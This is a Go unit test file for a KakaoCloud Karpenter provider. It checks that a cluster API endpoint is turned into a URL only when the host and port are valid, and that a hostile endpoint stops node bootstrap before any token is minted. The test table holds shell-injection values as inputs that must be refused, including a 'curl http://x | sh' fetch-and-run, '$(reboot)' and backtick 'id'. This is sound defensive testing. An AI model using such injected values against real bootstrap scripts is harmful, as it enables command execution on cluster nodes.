// Copyright 2026 The karpenter-provider-kakaocloud Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package bootstrap_test

import (
	"context"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"

	kcv1 "github.com/kakaocloud/karpenter-provider-kakaocloud/api/kakaocloud/v1"
	karpv1 "github.com/kakaocloud/karpenter-provider-kakaocloud/api/karpenter/v1"
	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/bootstrap"
	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/kakaocloud"
)

func TestAPIServerURLTakesOnlyAHostAndAPort(t *testing.T) {
	for _, tc := range []struct {
		host string
		port int
		want string // empty: refused
	}{
		{"10.0.0.1", 6443, "https://10.0.0.1:6443"},
		{"fd00::1", 6443, "https://[fd00::1]:6443"},
		{"[fd00::1]", 443, "https://[fd00::1]:443"},
		{"FD00:0:0::A", 6443, "https://[fd00::a]:6443"},
		{"api.k8s.kr-central-2.kakaocloud.com", 443, "https://api.k8s.kr-central-2.kakaocloud.com:443"},
		{"API.Example.COM", 65535, "https://api.example.com:65535"},
		{"localhost", 1, "https://localhost:1"},

		{"10.0.0.1", 0, ""},
		{"10.0.0.1", -6443, ""},
		{"10.0.0.1", 65536, ""},
		{"", 6443, ""},
		{"10.0.0.1 --insecure-skip-tls-verify", 6443, ""},
		{"api.example.com'; curl http://x | sh; '", 6443, ""},
		{`api.example.com"`, 6443, ""},
		{"$(reboot)", 6443, ""},
		{"${IFS}", 6443, ""},
		{"`id`", 6443, ""},
		{"api.example.com\nKARPENTER_EOF\nreboot", 6443, ""},
		{"api.example.com;reboot", 6443, ""},
		{"api.example.com|sh", 6443, ""},
		{"https://api.example.com", 6443, ""},
		{"api.example.com/evil", 6443, ""},
		{"api.example.com:6443", 6443, ""},
		{"user@api.example.com", 6443, ""},
		{"fe80::1%eth0", 6443, ""},
		{"[fd00::1", 6443, ""},
		{"[api.example.com]", 6443, ""},
		{"-api.example.com", 6443, ""},
		{strings.Repeat("a", 254), 6443, ""},
	} {
		got, err := bootstrap.APIServerURL(kakaocloud.Endpoint{Host: tc.host, Port: tc.port})
		switch {
		case tc.want == "" && err == nil:
			t.Errorf("host %q port %d: got %q, want it refused", tc.host, tc.port, got)
		case tc.want == "":
			if !strings.Contains(err.Error(), "control plane endpoint") {
				t.Errorf("host %q port %d: error %q does not say what it checked", tc.host, tc.port, err)
			}
		case err != nil:
			t.Errorf("host %q port %d: %v", tc.host, tc.port, err)
		case got != tc.want:
			t.Errorf("host %q port %d: got %q, want %q", tc.host, tc.port, got, tc.want)
		}
	}
}

// clusterAt answers every cluster read with an endpoint.
type clusterAt kakaocloud.Endpoint

func (c clusterAt) Cluster(context.Context) (kakaocloud.Cluster, error) {
	return kakaocloud.Cluster{Name: "karpenter-demo", ControlPlaneEndpoint: kakaocloud.Endpoint(c)}, nil
}

// A hostile endpoint fails the launch with an error naming the cluster and the value, and no
// token is minted for a script that was never written.
func TestBootstrapperRefusesAHostileEndpointBeforeMintingAToken(t *testing.T) {
	kube := fake.NewClientBuilder().Build()
	b := &bootstrap.Bootstrapper{Client: kube, Cluster: clusterAt{Host: "10.0.0.1 $(reboot)", Port: 6443}, CABundle: []byte(ca)}
	_, err := b.UserData(context.Background(), &karpv1.NodeClaim{ObjectMeta: metav1.ObjectMeta{Name: "default-abcde", UID: "uid-1"}}, &kcv1.KCNodeClass{})
	if err == nil || !strings.Contains(err.Error(), "cluster karpenter-demo") || !strings.Contains(err.Error(), `"10.0.0.1 $(reboot)"`) {
		t.Fatalf("error %v; want one naming the cluster and the endpoint", err)
	}
	secrets := &corev1.SecretList{}
	if err := kube.List(context.Background(), secrets); err != nil {
		t.Fatal(err)
	}
	if len(secrets.Items) != 0 {
		t.Errorf("a token was minted for a script that was not written: %s", secrets.Items[0].Name)
	}
}
